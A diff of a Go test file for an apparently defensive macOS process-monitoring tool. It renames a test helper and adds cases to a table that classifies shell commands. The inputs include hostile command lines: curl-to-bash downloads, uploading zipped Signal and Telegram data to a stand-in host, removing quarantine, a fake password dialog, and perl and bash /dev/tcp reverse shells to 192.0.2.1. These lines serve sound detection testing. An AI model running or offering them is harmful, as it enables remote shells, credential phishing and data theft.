@@ -30,16 +30,16 @@ func TestAncestry(t *testing.T) {
 	tr := New()
 	launch(tr, 0, 100, 1, "/Script Editor", "")
 	child := launch(tr, 1, 101, 100, "/bin/sh", "sh -c 'curl x'")
-	if got := names(child.Process.Ancestors); got != "Script Editor" {
+	if got := told(child.Process.Ancestors); got != "Script Editor" {
 		t.Errorf("ancestors %q", got)
 	}
 	became := launch(tr, 1, 101, 100, "/usr/bin/curl", "curl x")
-	if got := names(became.Process.Ancestors); got != "sh Script Editor" {
+	if got := told(became.Process.Ancestors); got != "sh Script Editor" {
 		t.Errorf("a shell that became curl: ancestors %q", got)
 	}
 	launch(tr, 9000, 100, 1, "/bin/backup", "")
 	other := launch(tr, 9001, 102, 100, "/bin/sh", "sh -c true")
-	if got := names(other.Process.Ancestors); got != "backup" {
+	if got := told(other.Process.Ancestors); got != "backup" {
 		t.Errorf("below a number that came again: ancestors %q", got)
 	}
 	self := launch(tr, 9002, 103, 103, "/bin/odd", "")
@@ -48,7 +48,7 @@ func TestAncestry(t *testing.T) {
 	}
 }
 
-func names(list []meetguard.Process) string {
+func told(list []meetguard.Process) string {
 	var out []string
 	for _, p := range list {
 		out = append(out, p.Exe[strings.LastIndexByte(p.Exe, '/')+1:])
@@ -89,23 +89,26 @@ func links(steps []meetguard.Step) string {
 
 func TestDeeds(t *testing.T) {
 	for line, want := range map[string]string{
-		"curl -fsSLk https://a.invalid/p?t=1 -o /tmp/x":                 "fetch /tmp/x a.invalid curl",
-		"curl -F file=@/tmp/o.zip https://a.invalid":                    "upload /tmp/o.zip a.invalid curl",
-		"wget -qO /tmp/f.sh https://a.invalid/f.sh":                     "fetch /tmp/f.sh a.invalid wget",
-		"chmod 755 /tmp/x":                                              "make executable /tmp/x  ",
-		"chmod 644 /tmp/x":                                              "",
-		"xattr -rd com.apple.quarantine /tmp/a.app":                     "dequarantine /tmp/a.app  ",
-		"xattr -w com.apple.quarantine 0081 /tmp/a.app":                 "",
-		"codesign --force --deep -s - /tmp/a.app":                       "re-sign /tmp/a.app  ",
-		"codesign --verify /tmp/a.app":                                  "",
-		"dscl . -authonly ann secret":                                   "check password   dscl",
-		"dscl . -read /Users/ann":                                       "",
-		"zip -r /tmp/o.zip tdata":                                       "take secret   telegram; pack /tmp/o.zip  zip",
-		"bash":                                                          "read commands   bash",
-		"sudo -E bash /tmp/x.sh":                                        "run /tmp/x.sh  bash",
-		"sh -c 'curl -s https://a.invalid | bash'":                      "fetch  a.invalid curl; read commands   bash",
-		"osascript -e 'display dialog \"Password\" with hidden answer'": "ask password   osascript",
-		"unzip -o /var/tmp/V.zip -d /var/tmp/V":                         "run /var/tmp/V.zip  unpack; unpack /var/tmp/V  unzip",
+		"curl -fsSLk https://a.invalid/p?t=1 -o /tmp/x":           "fetch /tmp/x a.invalid curl",
+		"curl -F file=@/tmp/o.zip https://a.invalid":              "upload /tmp/o.zip a.invalid curl",
+		"wget -qO /tmp/f.sh https://a.invalid/f.sh":               "fetch /tmp/f.sh a.invalid wget",
+		"chmod 755 /tmp/x":                                        "make executable /tmp/x  ",
+		"chmod 644 /tmp/x":                                        "",
+		"xattr -rd com.apple.quarantine /tmp/a.app":               "dequarantine /tmp/a.app  ",
+		"xattr -w com.apple.quarantine 0081 /tmp/a.app":           "",
+		"codesign --force --deep -s - /tmp/a.app":                 "re-sign /tmp/a.app  ",
+		"codesign --verify /tmp/a.app":                            "",
+		"dscl . -authonly ann secret":                             "check password   dscl",
+		"dscl . -read /Users/ann":                                 "",
+		"zip -r /tmp/o.zip tdata":                                 "take secret   telegram; pack /tmp/o.zip  zip",
+		"zip -r /tmp/o.zip testdata src/signal/a.go element/b.ts": "pack /tmp/o.zip  zip",
+		"zip -r /tmp/o.zip guardados exodusbible":                 "pack /tmp/o.zip  zip",
+		`zip -r /tmp/o.zip "Library/Application Support/Signal"`:  "take secret   messages; pack /tmp/o.zip  zip",
+		"bash":                   "read commands   bash",
+		"sudo -E bash /tmp/x.sh": "run /tmp/x.sh  bash",
+		"sh -c 'curl -s https://a.invalid | bash'":                                         "fetch  a.invalid curl; read commands   bash",
+		"osascript -e 'display dialog \"Password\" with hidden answer'":                    "ask password   osascript",
+		"unzip -o /var/tmp/V.zip -d /var/tmp/V":                                            "run /var/tmp/V.zip  unpack; unpack /var/tmp/V  unzip",
 		`perl -MIO::Socket -e 'IO::Socket::INET->new("192.0.2.1:443");exec("/bin/sh -i")'`: "connect  192.0.2.1 perl; run /bin/sh  program",
 		"bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'":                                 "connect  192.0.2.1 bash",
 		"bash -c 'echo > /dev/tcp/192.0.2.1/443'":                                          "",
